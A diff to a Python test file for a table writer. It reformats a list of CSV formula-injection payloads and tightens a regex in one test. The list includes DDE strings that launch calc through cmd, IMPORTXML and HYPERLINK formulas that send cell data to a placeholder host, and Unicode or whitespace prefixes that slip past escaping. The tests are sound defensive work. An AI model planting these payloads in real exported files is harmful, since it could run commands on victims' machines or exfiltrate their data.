@@ -1,3 +1,5 @@
+# ruff: noqa: RUF001 (full-width signs are what is tested)
+
 from __future__ import annotations
 
 import csv
@@ -20,10 +22,11 @@ if TYPE_CHECKING:
     from pathlib import Path
 
 PAYLOADS = [
-    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   @x", "\u00a0=1", "\u3000+1", "\u200b=1",
-    "\ufeff=1", "＝1+1", "＋1", "－1", "＠SUM(1)", " ＝1", "−1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x\",\"y\")",
-    "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", "+49 170 1234567", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-    "=\"a\"&\"b\"", "\t\t=1", "\x00=1", "\x0b=1", "=1;2", "=A1,\"x\"\n=B2", "-", "+", "=", "@", "'=1", "''=1", "' =1",
+    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   @x", "\u00a0=1", "\u3000+1",
+    "\u200b=1", "\ufeff=1", "＝1+1", "＋1", "－1", "＠SUM(1)", " ＝1", "−1+1", "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://x","y")', '=IMPORTXML(CONCAT("http://x/",A1),"//a")', "+49 170 1234567",
+    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '="a"&"b"', "\t\t=1", "\x00=1", "\x0b=1", "=1;2",
+    '=A1,"x"\n=B2', "-", "+", "=", "@", "'=1", "''=1", "' =1",
 ]  # fmt: skip
 HARMLESS = [
     "",
@@ -113,7 +116,7 @@ def test_the_ending_decides(tmp_path: Path) -> None:
     table = pa.table({"a": ["=1"], "b": [1.5]})
     assert write_table(tmp_path / "t.parquet", table) == tmp_path / "t.parquet"
     assert pq.read_table(tmp_path / "t.parquet").equals(table)
-    with pytest.raises(UsageError, match="Use one of: .csv, .parquet"):
+    with pytest.raises(UsageError, match=r"Use one of: \.csv, \.parquet"):
         write_table(tmp_path / "t.doc", table)
     with pytest.raises(ChannelError, match="cannot be written"):
         write_table(tmp_path / "no" / "t.csv", table)
